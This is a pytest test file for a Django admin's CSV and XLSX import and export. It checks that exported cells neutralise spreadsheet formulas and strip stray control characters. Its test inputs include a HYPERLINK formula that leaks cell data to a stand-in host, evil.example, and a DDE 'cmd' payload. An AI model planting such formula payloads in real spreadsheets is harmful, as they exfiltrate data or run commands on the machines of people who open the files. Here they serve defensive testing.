"""Spreadsheets as people really make them: Excel's regional CSVs in, safe cells out."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from alliance.models import Partner
from alliance.spreadsheets import spreadsheet_cell
from cities.models import City
from tests.admin.test_import_export import (
    CSV_FORMAT,
    XLSX_FORMAT,
    confirm,
    secretariat,  # noqa: F401 - fixture
    upload,
)
from tests.factories import (
    ApplicationFactory,
    CityFactory,
    CityOfficialFactory,
    MeetingFactory,
    MembershipFactory,
    PartnerFactory,
    PioneerLinkFactory,
)
from tests.imports.through_admin import preview_through_admin

pytestmark = pytest.mark.django_db


def page(response):
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def assert_no_traceback(html):
    assert "Traceback" not in html and 'File "' not in html
    assert "Error'" not in html and "UnicodeDecodeError" not in html


# -- In ----------------------------------------------------------------------------------

SEMICOLONS = (
    "slug;name;country;population;time_zone;alternate_names\r\n"
    'bogota-co;Bogotá;CO;7900000;America/Bogota;"Santa Fe de Bogotá, D.C."\r\n'
    "sao-paulo-br;São Paulo;BR;12300000;America/Sao_Paulo;\r\n"
)


def test_partners_import_from_a_semicolon_csv(secretariat):  # noqa: F811
    content = "slug;name;kind;tier\nnec;NEC Corporation;company;forum\n"
    preview = upload(secretariat, "admin:alliance_partner_import", content)
    assert preview.context["result"].totals["new"] == 1
    confirm(secretariat, "admin:alliance_partner_process_import", preview)
    assert Partner.objects.get(slug="nec").name == "NEC Corporation"


# -- Out ---------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Pasted from a word processor: smart quotes, a dash, Word's manual line break (vertical
# tab) and a stray control character, which openpyxl refuses outright.
PASTED = "“Smart” ‘quotes’ — line\x0bnext\x01"
PASTED_CLEAN = "“Smart” ‘quotes’ — line\nnext"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a\x00b", "ab"),
        ("lone \udc80 surrogate", "lone \ufffd surrogate"),
        ("page\x0cbreak", "page\nbreak"),
        (-58.38, -58.38),
        (None, ""),
        ("Medellín", "Medellín"),
    ],
)
def test_one_helper_makes_every_cell_safe(cell, expected):
    assert spreadsheet_cell(cell) == expected


def export(client, url, file_format):
    form = client.get(url).context["form"]
    data = {"format": file_format, "resource": 0}
    data.update({name: "on" for name in form.fields if name not in data})
    data.pop("export_items", None)
    response = client.post(url, data)
    assert response.status_code == 200
    return b"".join(response)


def cells(content, file_format):
    if file_format == CSV_FORMAT:
        assert content.startswith(b"\xef\xbb\xbf")  # Excel then reads UTF-8 as such
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula in the workbook
            found.append(cell.value)
    return found


EXPORTS = {
    "cities": (
        "admin:cities_city_export",
        lambda: CityFactory(name=FORMULA, subdivision=PASTED),
    ),
    "officials": (
        "admin:cities_cityofficial_export",
        lambda: CityOfficialFactory(position=FORMULA, phone="@SUM(1)", city__name=PASTED),
    ),
    "applications": (
        "admin:networks_application_export",
        lambda: ApplicationFactory(applicant_name=FORMULA, motivation=PASTED),
    ),
    "pioneer links": (
        "admin:networks_pioneerlink_export",
        lambda: PioneerLinkFactory(notes=FORMULA + "\n" + PASTED),
    ),
    "meetings": (
        "admin:networks_meeting_export",
        lambda: MeetingFactory(title=FORMULA, agenda=PASTED),
    ),
    "partners": (
        "admin:alliance_partner_export",
        lambda: PartnerFactory(name=FORMULA, description=PASTED),
    ),
}


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
@pytest.mark.parametrize("which", EXPORTS)
def test_every_admin_export_neutralises_formulas_and_survives_pasted_text(
    client, staff_user, which, file_format
):
    url_name, make = EXPORTS[which]
    make()
    client.force_login(staff_user)
    found = cells(export(client, reverse(url_name), file_format), file_format)
    text = "\n".join(str(cell) for cell in found if cell is not None)
    assert "'" + FORMULA in text
    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in found if cell)
    assert PASTED_CLEAN in text or PASTED_CLEAN.replace("\n", " ") in text or which == "officials"
    assert "\x01" not in text and "\x0b" not in text


def test_a_workbook_keeps_numbers_and_dates_as_such(client, staff_user):
    MembershipFactory(joined_on=datetime.date(2024, 3, 21), city__population=250000)
    CityFactory(population=180000, latitude="-34.60370", slug="buenos-aires-ar")
    client.force_login(staff_user)
    workbook = export(client, reverse("admin:networks_membership_export"), XLSX_FORMAT)
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(workbook)).active for c in row]
    assert datetime.datetime(2024, 3, 21) in values  # noqa: DTZ001 - as the workbook holds it
    cities = export(client, reverse("admin:cities_city_export"), XLSX_FORMAT)
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(cities)).active for c in row]
    assert 180000 in values
    assert not any(isinstance(v, str) and v.startswith("'-34") for v in values)


def test_an_exported_city_file_imports_back_unchanged(secretariat):  # noqa: F811
    CityFactory(slug="lodz-pl", name="Łódź", country="PL", time_zone="Europe/Warsaw")
    content = export(secretariat, reverse("admin:cities_city_export"), CSV_FORMAT)
    job = preview_through_admin(secretariat, "cities", content)
    assert (job.rows, job.unchanged) == (1, 1)


def test_the_directory_export_uses_the_same_rules(client, staff_user):
    city = CityFactory(name="@SUM(A1)", subdivision=PASTED)
    MembershipFactory(city=city)
    client.force_login(staff_user)
    body = b"".join(client.post(reverse("directory_export")).streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert "'@SUM(A1)" in text and "\x01" not in text and "\x0b" not in text


@pytest.mark.parametrize("language", ["en", "es"])
def test_numbers_go_out_and_come_back_the_same_in_every_admin_language(
    secretariat,  # noqa: F811
    language,
):
    from django.utils import translation

    CityFactory(slug="buenos-aires-ar", country="AR", latitude="-34.60370", population=3075646)
    with translation.override(language):
        content = export(secretariat, reverse("admin:cities_city_export"), CSV_FORMAT)
        assert "-34.60370" in content.decode("utf-8-sig")
        assert "'-34" not in content.decode("utf-8-sig")
        job = preview_through_admin(secretariat, "cities", content)
    assert (job.rows, job.unchanged) == (1, 1)


@pytest.mark.parametrize("language", ["en", "es"])
def test_a_decimal_comma_is_refused_alike_in_every_admin_language(
    secretariat,  # noqa: F811
    language,
):
    from django.utils import translation

    content = "slug;name;country;latitude;time_zone\nbogota-co;Bogotá;CO;4,711;America/Bogota\n"
    with translation.override(language):
        job = preview_through_admin(secretariat, "cities", content)
    assert job.refused == 1 and "4.711" in job.samples["refused"][0][1]
    assert not City.objects.exists()
